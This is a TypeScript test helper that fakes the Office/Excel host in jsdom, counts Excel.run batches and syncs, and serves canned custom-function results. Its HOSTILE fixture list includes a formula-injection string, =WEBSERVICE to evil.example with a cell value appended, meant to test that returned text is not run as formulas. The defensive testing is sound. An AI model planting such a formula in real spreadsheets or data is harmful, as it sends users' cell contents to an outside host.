/**
 * The fake Office host (src/fake-office) installed in jsdom for tests of src/office:
 * Excel.run as strict as office.js, with every request (Excel.run) and round trip (sync) counted.
 */
import { installFakeOffice } from "../../src/fake-office/install";
import type { Driver } from "../../src/fake-office/driver";
import type { Host } from "../../src/fake-office/host";

export interface FakeExcel {
  fx: Driver & { host: Host };
  /** Excel.run batches and round trips (syncs that carry work) since the last reset. */
  counts: { runs: number; syncs: number };
  reset(): void;
}

const META = {
  functions: [
    { id: "PEERS", parameters: [{ name: "ticker" }] },
    { id: "TEXTS", parameters: [] },
    { id: "FINANCIALS", parameters: [{ name: "ticker" }, { name: "metrics" }, { name: "period", optional: true }, { name: "options", optional: true }] },
  ],
};

/** What an API could answer: text that Excel would read as formulas, numbers or dates if typed. */
export const HOSTILE = ['=WEBSERVICE("https://evil.example/?"&A1)', "+1", "-x", "@SUM(A1)", "2024-01-05", "'quoted", "TRUE", "#N/A"];

const PEERS: Record<string, string[]> = { AAPL: ["MSFT", "GOOGL", "NVDA"], KO: ["PEP", "KDP"] };

type Win = Window & { Excel: { run: unknown; RequestContext: { prototype: { sync: (...a: unknown[]) => Promise<unknown> } } } };

/** Install once per test file (jsdom); PEERS and FINANCIALS answer from small tables. */
export function fakeExcel(): FakeExcel {
  const fx = installFakeOffice(window as never, { metadata: async () => META }) as unknown as FakeExcel["fx"];
  fx.host.fns.associate("PEERS", async (t: unknown) => [["ticker"], ...(PEERS[String(t)] ?? []).map((p) => [p])]);
  fx.host.fns.associate("TEXTS", async () => [["text"], ...HOSTILE.map((t) => [t])]);
  fx.host.fns.associate("FINANCIALS", async (t: unknown, m: unknown) => [["metric", "FY2024"], [String(m), String(t).length]]);
  const counts = { runs: 0, syncs: 0 };
  const w = window as unknown as Win;
  const run = w.Excel.run as (b: unknown) => Promise<unknown>;
  w.Excel.run = (batch: unknown) => {
    counts.runs++;
    return run(batch);
  };
  const proto = w.Excel.RequestContext.prototype;
  const sync = proto.sync;
  // A sync with nothing queued (Excel.run's closing one after a batch that synced) sends nothing.
  proto.sync = function (this: { ops?: unknown[] }, ...a: unknown[]) {
    if (this.ops?.length) counts.syncs++;
    return sync.apply(this, a);
  };
  return { fx, counts, reset: () => Object.assign(counts, { runs: 0, syncs: 0 }) };
}
